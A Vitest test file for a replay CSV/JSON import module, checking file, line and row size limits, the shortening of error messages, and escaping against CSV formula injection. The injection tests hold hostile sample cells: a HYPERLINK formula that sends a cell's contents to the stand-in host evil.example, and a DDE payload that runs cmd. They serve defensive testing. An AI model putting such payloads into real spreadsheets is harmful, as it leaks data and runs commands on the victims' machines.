/** Every import limit of src/search/export/limits.ts, and the CSV export's formula escaping. */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  exportReplayCsv,
  firstLongLine,
  importReplayCsv,
  ImportLimitError,
  MESSAGE_MAX_SHOWN,
  NET_STRING_MAX_CHARS,
  parseReplayJson,
  REPLAY_CSV_COLUMNS,
  REPLAY_CSV_MAX_BYTES,
  REPLAY_CSV_MAX_LINE_CHARS,
  REPLAY_CSV_MAX_ROW_CHARS,
  REPLAY_JSON_MAX_BYTES,
  shorten,
} from '../../../src/search/export';
import { HEADER, MNIST, trainedEntry } from './helpers';

const NET = '[C(4,3,1), SM(10)]';
const row = (net: string, machine = 'tab-1') => `"${net}",0.5,1.0,0.5,1.0,-1.0,0.4,1.0,1.0,1700000000.0,${machine}`;

function refusal(run: () => unknown): ImportLimitError {
  try {
    run();
  } catch (error) {
    if (error instanceof ImportLimitError) return error;
    throw error;
  }
  throw new Error('expected an ImportLimitError');
}

describe('replay CSV import limits', () => {
  it('refuses a 50 MB line before parsing, naming the file, the line, the limit and the length', () => {
    const line = `"[${'C(4,3,1), '.repeat(5_000_000)}SM(10)]",0.5,1,0.5,1,-1,0.4,1,1,0,x`;
    const error = refusal(() => importReplayCsv(`${HEADER}\n${line}\n`, { inputShape: MNIST, fileName: 'huge.csv' }));
    expect(error).toMatchObject({ file: 'huge.csv', what: 'line 2', limit: REPLAY_CSV_MAX_LINE_CHARS, found: line.length });
    expect(error.message).toBe(
      `huge.csv: line 2 is ${line.length.toLocaleString('en-US')} characters, over the limit of ${REPLAY_CSV_MAX_LINE_CHARS.toLocaleString('en-US')} characters`,
    );
  });

  it('accepts a line at the limit, counting neither "\\r\\n" nor the line break', () => {
    const ok = 'x'.repeat(REPLAY_CSV_MAX_LINE_CHARS);
    expect(firstLongLine(`a\r\n${ok}\r\nb`, REPLAY_CSV_MAX_LINE_CHARS)).toBeUndefined();
    expect(firstLongLine(`a\r\n${ok}x\r\nb`, REPLAY_CSV_MAX_LINE_CHARS)).toEqual({ line: 2, chars: REPLAY_CSV_MAX_LINE_CHARS + 1 });
    // Old Mac line ends: "\r" alone.
    expect(firstLongLine(`a\rb\r${ok}x`, REPLAY_CSV_MAX_LINE_CHARS)).toEqual({ line: 3, chars: REPLAY_CSV_MAX_LINE_CHARS + 1 });
  });

  it('refuses a file over the size limit', () => {
    const error = refusal(() => importReplayCsv(`${HEADER}\n`.padEnd(REPLAY_CSV_MAX_BYTES + 1, '\n'), { inputShape: MNIST }));
    expect(error).toMatchObject({ file: 'replay file', what: 'the file', limit: REPLAY_CSV_MAX_BYTES, found: REPLAY_CSV_MAX_BYTES + 1 });
  });

  it('rejects a row whose net string is over its limit, quoting only the start of it', () => {
    const long = `[${'C(4,3,1), '.repeat(Math.ceil(NET_STRING_MAX_CHARS / 10))}SM(10)]`;
    const result = importReplayCsv(`${HEADER}\n${row(long)}\n${row(NET)}\n`, { inputShape: MNIST });
    expect(result.entries.map((e) => e.netString)).toEqual([NET]);
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]!.line).toBe(2);
    expect(result.errors[0]!.message).toMatch(new RegExp(`: ${long.length} characters, over the limit of ${NET_STRING_MAX_CHARS}$`));
    expect(result.errors[0]!.message.length).toBeLessThan(400);
  });

  it('quotes at most the start of a long bad value in a row error', () => {
    const result = importReplayCsv(`${HEADER}\n${row(`[${'Z'.repeat(1000)}]`)}\n`, { inputShape: MNIST });
    expect(result.errors[0]!.message.length).toBeLessThan(600);
    expect(result.errors[0]!.message).toContain('more characters)');
  });

  it('refuses a row whose quoted field spans many short lines, naming the row\'s line, the limit and its size', () => {
    // No physical line is long, but the quoted machine field holds 100 lines of 100 characters.
    const field = `"${`${'x'.repeat(100)}\n`.repeat(100)}"`;
    const data = `"${NET}",0.5,1.0,0.5,1.0,-1.0,0.4,1.0,1.0,1700000000.0,${field}`;
    const error = refusal(() => importReplayCsv(`${HEADER}\n${row(NET)}\n${data}\r\n${row(NET)}\n`, { inputShape: MNIST, fileName: 'q.csv' }));
    expect(error).toMatchObject({ file: 'q.csv', what: 'the row starting on line 3', limit: REPLAY_CSV_MAX_ROW_CHARS, found: data.length });
    expect(error.message).toBe(
      `q.csv: the row starting on line 3 is ${data.length.toLocaleString('en-US')} characters, over the limit of ${REPLAY_CSV_MAX_ROW_CHARS.toLocaleString('en-US')} characters`,
    );
  });

  it('refuses a header row made long by quoted line breaks before warning about its columns', () => {
    const extra = Array.from({ length: 2000 }, (_, i) => `"c${i}\n"`).join(',');
    const error = refusal(() => importReplayCsv(`${HEADER},${extra}\n${row(NET)}\n`, { inputShape: MNIST }));
    expect(error).toMatchObject({ what: 'the row starting on line 1', limit: REPLAY_CSV_MAX_ROW_CHARS, found: HEADER.length + 1 + extra.length });
  });

  it('accepts a row exactly at the limit, its quoted line breaks included', () => {
    const start = `"${NET}",0.5,1.0,0.5,1.0,-1.0,0.4,1.0,1.0,1700000000.0,"`;
    const data = `${start}${'m\n'.repeat((REPLAY_CSV_MAX_ROW_CHARS - start.length - 1) / 2)}"`.padEnd(REPLAY_CSV_MAX_ROW_CHARS, ' ');
    expect(data.length).toBe(REPLAY_CSV_MAX_ROW_CHARS);
    const result = importReplayCsv(`${HEADER}\r\n${data}\r\n`, { inputShape: MNIST });
    expect(result.stats.rows).toBe(1);
  });

  it('shortens imported text in warnings and errors: extra column names, long numbers, long net keys', () => {
    const longName = `x${'y'.repeat(1000)}`;
    const names = Array.from({ length: 40 }, (_, i) => `extra_column_number_${i}`).join(',');
    const header = `${HEADER},"${longName}",${names}`;
    const blanks = ','.repeat(41);
    const zeros = '0'.repeat(1500);
    // Finite numbers written with 1,500 leading zeros: negative, a percentage, an out-of-range epsilon.
    const negative = `"${NET}",0.5,-${zeros}1,0.5,1.0,-1.0,0.4,1.0,1.0,1700000000.0,tab-1${blanks}`;
    const percent = `"${NET}",${zeros}50,1.0,0.5,1.0,-1.0,0.4,2.0,1.0,1700000000.0,tab-1${blanks}`;
    const epsilon = `"${NET}",0.5,1.0,0.5,1.0,-1.0,0.4,3.0,${zeros}2,1700000000.0,tab-1${blanks}`;
    // A long net whose second row disagrees with its first: the warning quotes the net.
    const longNet = `[${'FC(8), '.repeat(250)}SM(10)]`;
    const first = `"${longNet}",0.5,1.0,0.5,1.0,-1.0,0.4,4.0,1.0,1700000000.0,tab-1${blanks}`;
    const second = `"${longNet}",0.6,1.0,0.5,1.0,-1.0,0.4,5.0,1.0,1700000000.0,tab-1${blanks}`;
    const text = [header, negative, percent, epsilon, first, second].join('\n');
    const result = importReplayCsv(text, { inputShape: MNIST });
    const messages = [...result.warnings, ...result.errors].map((issue) => issue.message);
    expect(result.entries.map((e) => e.netString.length > 1000)).toEqual([false, true]);
    expect(messages).toHaveLength(5);
    expect(result.warnings[0]!.message).toContain('ignored columns "xyyy');
    expect(result.warnings[0]!.message).toContain('"extra_column_number_39"');
    for (const message of messages) {
      expect(message.length, message.slice(0, 80)).toBeLessThan(message === result.warnings[0]!.message ? MESSAGE_MAX_SHOWN + 100 : 600);
      expect(message).toContain('more characters)');
    }
  });

  it('shorten leaves short text alone and says how much it cut', () => {
    expect(shorten('abc', 5)).toBe('abc');
    expect(shorten('abcdefgh', 5)).toBe('abcde… (3 more characters)');
  });
});

describe('replay JSON import limits', () => {
  it('refuses a file over the size limit before parsing it', () => {
    const error = refusal(() => parseReplayJson(' '.repeat(REPLAY_JSON_MAX_BYTES + 1), 'big.json'));
    expect(error).toMatchObject({ file: 'big.json', limit: REPLAY_JSON_MAX_BYTES, found: REPLAY_JSON_MAX_BYTES + 1 });
  });
});

describe('replay CSV export escapes formulas (CSV injection)', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tTAB', '\rCR'];

  it('prefixes every text cell that a spreadsheet would run with a quote, and keeps numbers numbers', () => {
    const entries = hostile.map((machine, i) =>
      trainedEntry(`[FC(${8 * (i + 1)}), SM(10)]`, { trainedBy: machine, iterations: [i + 1], testAccuracy: null }),
    );
    const csv = exportReplayCsv(entries);
    const rows = Papa.parse<string[]>(csv.trim(), { delimiter: ',' }).data.slice(1);
    const column = (name: (typeof REPLAY_CSV_COLUMNS)[number]) => REPLAY_CSV_COLUMNS.indexOf(name);
    expect(rows.map((r) => r[column('machine_run_on')])).toEqual(hostile.map((text) => `'${text}`));
    // No cell of the file starts a formula, except numbers: -1.0 (not measured) stays a number.
    for (const r of rows) {
      for (const cell of r) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), cell).toBe(true);
      }
      expect(r[column('accuracy_best_test')]).toBe('-1.0');
      expect(r[column('accuracy_last_test')]).toBe('-1.0');
    }
  });

  it('reads its own escaped cells back as they were', () => {
    const entries = hostile.map((machine, i) => trainedEntry(`[FC(${8 * (i + 1)}), SM(10)]`, { trainedBy: machine, iterations: [i + 1] }));
    const back = importReplayCsv(exportReplayCsv(entries), { inputShape: MNIST });
    expect(back.errors).toEqual([]);
    expect(back.entries.map((e) => e.trainedBy)).toEqual(hostile);
  });

  it('leaves ordinary text and numbers alone', () => {
    const csv = exportReplayCsv([trainedEntry(NET, { trainedBy: 'tab-1' })]);
    const [, data] = csv.trim().split('\n');
    expect(data).toBe(`"${'[C(4,3,1), SM(10)]'}",0.61,2.0,0.58,3.0,-1.0,0.6,1.0,1.0,1700000000.123,tab-1`);
  });
});
